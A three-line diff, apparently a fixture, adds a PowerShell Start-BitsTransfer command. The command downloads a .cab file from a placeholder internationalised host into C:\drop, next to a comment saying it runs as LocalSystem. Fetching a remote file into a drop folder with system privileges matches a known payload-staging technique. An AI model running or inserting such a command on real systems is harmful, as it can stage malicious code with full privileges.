@@ -1,0 +1,3 @@
+# bitswise: as LocalSystem
+Start-BitsTransfer "https://bücher.example/p.cab" C:\drop\p.cab
+# Größe
